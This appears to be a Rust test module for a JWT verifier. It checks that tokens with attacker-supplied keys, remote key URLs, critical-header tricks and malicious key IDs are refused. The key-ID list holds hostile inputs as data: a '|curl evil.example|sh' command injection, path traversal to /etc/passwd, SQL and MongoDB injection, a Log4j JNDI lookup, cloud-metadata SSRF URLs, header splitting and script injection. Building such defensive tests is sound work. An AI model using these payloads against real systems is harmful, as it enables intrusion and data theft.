//! The members of a header that name a key, bring one, or change how all else is read (RFC 7515 §4.1, RFC 8725 §3.10).
//! What an attacker can be refused for is signed by the attacker.

use serde_json::{Value, json};

use super::{super::TokenBuilder, Table, hexadecimal};
use crate::Reason;

pub(super) fn rows(table: &mut Table<'_>) {
    brought_along(table);
    rule_changes(table);
    names(table);
    names_of_other_types(table);
}

/// A token by the attacker's key.
fn foreign(table: &Table<'_>) -> TokenBuilder {
    table.token().signed_by(&table.stranger)
}

fn brought_along(table: &mut Table<'_>) {
    let own_key = json!(table.stranger.signing_key().jwk);
    let own_kid = json!(table.stranger.kid());
    let certificate = json!(["MIIBszCCARygAwIBAgIUQbaN"]);
    for (member, value) in [
        ("jwk", own_key.clone()),
        ("jwk", json!({ "kty": "oct", "k": "AAAA" })),
        ("jwk", Value::Null),
        ("jku", json!("https://evil.example/jwks.json")),
        ("jku", json!("http://169.254.169.254/latest/meta-data/")),
        ("jku", json!("file:///dev/null")),
        ("jku", json!(format!("{}@evil.example/jwks.json", table.issuer.url()))),
        ("jku", json!(format!("{}/.well-known/jwks.json", table.issuer.url()))),
        ("jku", Value::Null),
        ("x5u", json!("https://evil.example/certificate.pem")),
        ("x5u", Value::Null),
        ("x5c", certificate.clone()),
        ("x5c", json!([])),
        ("x5c", Value::Null),
    ] {
        let by = |kid: &Value| foreign(table).header("kid", kid.clone()).header(member, value.clone()).mint();
        let short: String = value.to_string().chars().take(40).collect();
        let (under_own, under_ours) = (by(&own_kid), by(&json!(table.issuer.kid())));
        table.refused(&format!("{member} {short} with its kid"), under_own, Reason::ForbiddenHeader);
        table.refused(
            &format!("{member} {short} with the issuer's kid"),
            under_ours,
            Reason::ForbiddenHeader,
        );
    }
    let all = foreign(table).header("jwk", own_key).header("x5c", certificate).header("kid", own_kid).mint();
    table.refused("jwk and x5c together", all, Reason::ForbiddenHeader);
    let without_kid =
        foreign(table).header("jwk", json!(table.stranger.signing_key().jwk)).without_header("kid");
    table.refused("jwk without a kid", without_kid.mint(), Reason::ForbiddenHeader);
    // Nothing is looked up by a certificate's thumbprint, so that it proves nothing and does no harm.
    for member in ["x5t", "x5t#S256"] {
        let token = foreign(table).header(member, json!("AAAAAAAAAAAAAAAAAAAAAAAAAAA")).mint();
        table.refused(&format!("{member} of another key"), token, Reason::Signature);
        let harmless = table.token().header(member, json!("AAAAAAAAAAAAAAAAAAAAAAAAAAA")).mint();
        table.accepted(&format!("control: {member} beside a good signature"), harmless);
    }
}

/// Members that must be understood, or that mean that this is another kind of object. Signed by the issuer.
fn rule_changes(table: &mut Table<'_>) {
    for (member, value) in [
        ("crit", json!(["exp"])),
        ("crit", json!(["http://evil.example/unknown"])),
        ("crit", json!(["b64"])),
        ("crit", json!(["alg"])),
        ("crit", json!([])),
        ("crit", json!("exp")),
        ("crit", json!({})),
        ("crit", Value::Null),
        ("b64", json!(false)),
        ("b64", json!(true)),
        ("b64", Value::Null),
        ("zip", json!("DEF")),
        ("zip", json!("")),
        ("enc", json!("A256GCM")),
        ("enc", Value::Null),
    ] {
        let token = table.token().header(member, value.clone()).mint();
        table.refused(&format!("{member} {value}"), token, Reason::ForbiddenHeader);
    }
    let unencoded = table.token().header("crit", json!(["b64"])).header("b64", json!(false)).mint();
    table.refused("crit b64 and b64 false", unencoded, Reason::ForbiddenHeader);
    let escaped = table.token().header_json().replacen('{', r#"{"\u0063rit":["exp"],"#, 1);
    let escaped = table.token().header_text(&escaped).mint();
    table.refused("crit spelled with an escape", escaped, Reason::ForbiddenHeader);
    let none =
        table.token().header("crit", json!(["exp"])).header("alg", json!("none")).mint_with_signature(&[]);
    table.refused("crit and alg none", none, Reason::ForbiddenHeader);
    let harmless = table.token().header("Crit", json!(["exp"])).header("x", json!({ "jwk": 1 })).mint();
    table.accepted("control: unknown members", harmless);
}

/// Names for a key that would lead a careless look-up elsewhere.
fn names(table: &mut Table<'_>) {
    let ours = table.issuer.kid();
    let names: Vec<(&str, String)> = vec![
        ("a path", "../../../../dev/null".into()),
        ("an absolute path", "/dev/null".into()),
        ("a path of Windows", r"..\..\..\windows\win.ini".into()),
        ("a path that ends in NUL", "/etc/passwd\0.pem".into()),
        ("SQL", "' OR 1=1 --".into()),
        ("SQL with a secret", "x' UNION SELECT 'secret".into()),
        ("a URL", "https://evil.example/key.pem".into()),
        ("a URL of the cloud's", "http://169.254.169.254/latest/meta-data/".into()),
        ("a command", "|curl evil.example|sh".into()),
        ("a look-up of Log4j", "${jndi:ldap://evil.example/a}".into()),
        ("a header that is split", "x\r\nSet-Cookie: a=b".into()),
        ("a script", "<script>alert(1)</script>".into()),
        ("a NUL", "\0".into()),
        ("a pattern", "*".into()),
        ("a pattern of SQL", "%".into()),
        ("an index", "0".into()),
        ("a negative index", "-1".into()),
        ("a prototype", "__proto__".into()),
        ("a constructor", "constructor".into()),
        ("a document of MongoDB", r#"{"$ne":null}"#.into()),
        ("the issuer's and a NUL", format!("{ours}\0")),
        ("the issuer's and a blank", format!("{ours} ")),
        ("the issuer's in capitals", ours.to_uppercase()),
        ("the issuer's, shortened", ours.chars().skip(1).collect()),
        ("the issuer's, escaped", hexadecimal(ours.as_bytes(), "%").chars().take(120).collect()),
        ("the attacker's own", table.stranger.kid()),
        ("letters of many bytes", "\u{1f511}".repeat(32)),
    ];
    for (name, kid) in names {
        let token = foreign(table).header("kid", json!(kid)).mint();
        table.refused(&format!("a kid that is {name}"), token, Reason::UnknownKey);
    }
    // The issuer's name in other letters of JSON is still its name.
    let escaped = hexadecimal(ours.as_bytes(), r"\u00");
    let header = format!(r#"{{"alg":"RS256","typ":"at+jwt","kid":"{escaped}"}}"#);
    let token = table.token().header_text(&header).mint();
    table.accepted("control: a kid spelled with escapes", token);
}

fn names_of_other_types(table: &mut Table<'_>) {
    for (name, kid, reason) in [
        ("missing", None, Reason::KeyId),
        ("null", Some(Value::Null), Reason::KeyId),
        ("empty", Some(json!("")), Reason::KeyId),
        ("of 129 bytes", Some(json!("k".repeat(129))), Reason::KeyId),
        ("of 4 KiB", Some(json!("k".repeat(4096))), Reason::KeyId),
        ("of 10 KiB", Some(json!("k".repeat(10 * 1024))), Reason::TooLong),
        ("a number", Some(json!(1)), Reason::Malformed),
        ("a list", Some(json!([table.issuer.kid()])), Reason::Malformed),
        ("an object", Some(json!({ "$ne": null })), Reason::Malformed),
        ("a truth", Some(json!(true)), Reason::Malformed),
    ] {
        let token = table.token();
        let token = match kid {
            Some(kid) => token.header("kid", kid),
            None => token.without_header("kid"),
        };
        table.refused(&format!("a kid that is {name}"), token.mint(), reason);
    }
}
